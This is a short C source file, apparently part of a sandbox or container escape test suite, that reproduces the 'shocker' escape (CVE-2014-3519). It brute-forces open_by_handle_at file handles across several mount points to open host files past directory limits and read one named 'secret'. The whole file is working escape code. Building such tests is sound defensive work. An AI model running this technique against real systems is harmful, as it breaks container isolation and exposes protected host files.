/* Opens the host's files by handle, past every directory ("shocker", open_by_handle_at(2); CVE-2014-3519). */
#include "common/attack.h"

static void attempt(void) {
    struct {
        struct file_handle handle;
        uint32_t inode, generation;
    } key = {.handle = {.handle_bytes = 8, .handle_type = 1}};
    static const char *places[] = {"/", "/tmp", "/dev", "/proc", "/run", "/bin/busybox"};
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        int mount_point = open(places[i], O_RDONLY);
        for (key.inode = 0; key.inode < 64; key.inode++) {
            int fd = open_by_handle_at(mount_point, &key.handle, O_RDONLY);
            if (fd >= 0) {
                printf("inode %u of %s\n", key.inode, places[i]);
                int file = openat(fd, "secret", O_RDONLY);
                if (file >= 0) {
                    show_fd("secret", file);
                }
                close(file);
                close(fd);
            }
        }
        said(places[i], -1);
        close(mount_point);
    }
}
